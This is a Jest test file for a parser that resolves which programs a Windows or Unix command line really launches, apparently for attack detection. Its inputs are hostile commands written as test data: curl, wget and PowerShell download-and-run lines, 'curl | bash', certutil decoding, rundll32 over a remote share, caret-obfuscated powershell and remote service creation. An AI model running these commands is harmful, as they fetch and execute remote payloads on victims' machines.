import { isShellBuiltin, programRuns } from './command-program';

const images = (commandLine: string, windows = true) => programRuns(commandLine, windows).map((run) => [run.image, run.commandLine]);

describe('programRuns: the programs a quoted command line really starts', () => {
  it('looks through cmd /c, start, call and for … do to the program that ran', () => {
    expect(images('cmd.exe /c start /b "" curl.exe -o C:\\Users\\Public\\a.dll http://203.0.113.5/a')).toEqual([
      ['curl.exe', 'curl.exe -o C:\\Users\\Public\\a.dll http://203.0.113.5/a'],
    ]);
    expect(images('cmd /v/c pushd \\\\203.0.113.5@SSL\\ & rundll32 gc.key,#1')).toEqual([['rundll32.exe', 'rundll32 gc.key,#1']]);
    // cmd.exe runs the quoted command of `for /f … in ('…')` before the body (here only a built-in).
    expect(images('for /f "tokens=*" %%a in (\'finger gate@203.0.113.9\') do call %%a')).toEqual([
      ['finger.exe', 'finger gate@203.0.113.9'],
    ]);
    expect(images('for /f %i in (list.txt) do certutil -decode %i out.bin')).toEqual([['certutil.exe', 'certutil -decode %i out.bin']]);
  });

  it('gives each program of a chain its own run and skips shell built-ins', () => {
    expect(images('cd /tmp && wget -q http://203.0.113.5/x -O .x; chmod +x .x; ./.x', false)).toEqual([
      ['wget', 'wget -q http://203.0.113.5/x -O .x'],
      ['chmod', 'chmod +x .x'],
      ['.x', './.x'],
    ]);
    expect(images('sudo -E nohup /bin/sh -c "curl -fsSL http://203.0.113.5/i.sh | bash"', false)).toEqual([
      ['curl', 'curl -fsSL http://203.0.113.5/i.sh'],
      ['bash', 'bash'],
    ]);
    expect(images('echo hello > out.txt', false)).toEqual([]);
  });

  it('runs a PowerShell cmdlet or alias inside powershell.exe, but a real program of the same name as itself', () => {
    expect(programRuns("irm 'https://203.0.113.5/a' | iex", true)).toEqual([
      { image: 'powershell.exe', commandLine: "irm 'https://203.0.113.5/a'", viaPowerShell: true },
      { image: 'powershell.exe', commandLine: 'iex', viaPowerShell: true },
    ]);
    expect(images('Invoke-WebRequest -Uri https://203.0.113.5/a -OutFile a.exe')[0]?.[0]).toBe('powershell.exe');
    expect(images('sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe')).toEqual([
      ['sc.exe', 'sc \\\\FS02 create Svc binPath= C:\\Temp\\s.exe'],
    ]);
    expect(images('curl.exe -o a http://x', false)[0]?.[0]).toBe('curl');
  });

  it('keeps a pipe inside parentheses or a script block with the code around it', () => {
    expect(images('Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String) | Out-Null')).toEqual([
      ['powershell.exe', 'Set-Content C:\\Temp\\a.txt (Get-Item C:\\Temp\\b | Out-String)'],
      ['powershell.exe', 'Out-Null'],
    ]);
    expect(images('Get-Process | Where-Object { $_.Path | Select-String Temp }')).toEqual([
      ['powershell.exe', 'Get-Process'],
      ['powershell.exe', 'Where-Object { $_.Path | Select-String Temp }'],
    ]);
    expect(programRuns('Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync', true)).toEqual([
      {
        image: 'powershell.exe',
        commandLine: 'Register-ScheduledTask -Xml (Get-Content "C:\\Temp\\t.xml" | Out-String) -TaskName Sync',
        viaPowerShell: true,
      },
    ]);
  });

  it('never gives an image that is not a file name', () => {
    expect(images("(New-Object Net.WebClient).DownloadString('http://203.0.113.5/a')")).toEqual([]);
    expect(images('TOKEN=$(curl -s -X PUT http://203.0.113.5/token)', false)).toEqual([
      ['curl', 'curl -s -X PUT http://203.0.113.5/token'],
    ]);
    expect(images('LANG=C wget -q http://203.0.113.5/x', false)).toEqual([['wget', 'wget -q http://203.0.113.5/x']]);
    expect(images('( cd /tmp && wget http://203.0.113.5/y )', false)).toEqual([['wget', 'wget http://203.0.113.5/y']]);
  });

  it('reads cmd.exe carets as escapes: no caret in an image, no split at an escaped pipe', () => {
    expect(images('cmd /c "p^o^w^e^r^s^h^e^l^l -nop -c iwr http://203.0.113.5/a"')).toEqual([
      ['powershell.exe', 'powershell -nop -c iwr http://203.0.113.5/a'],
    ]);
    expect(images('echo x ^| c^e^r^t^u^t^i^l -decode a b')).toEqual([]);
    expect(images('@pushd %TEMP% & @c^e^r^t^u^t^i^l -decode a^^b "c^d"')).toEqual([['certutil.exe', 'certutil -decode a^b "c^d"']]);
  });

  it('splits at shell operators outside quotes only', () => {
    expect(images('a "x && y" && b | c; d & e', false).map(([, line]) => line)).toEqual(['a "x && y"', 'b', 'c', 'd', 'e']);
    expect(isShellBuiltin('FOR')).toBe(true);
    expect(isShellBuiltin('C:\\Windows\\System32\\certutil.exe')).toBe(false);
  });
});
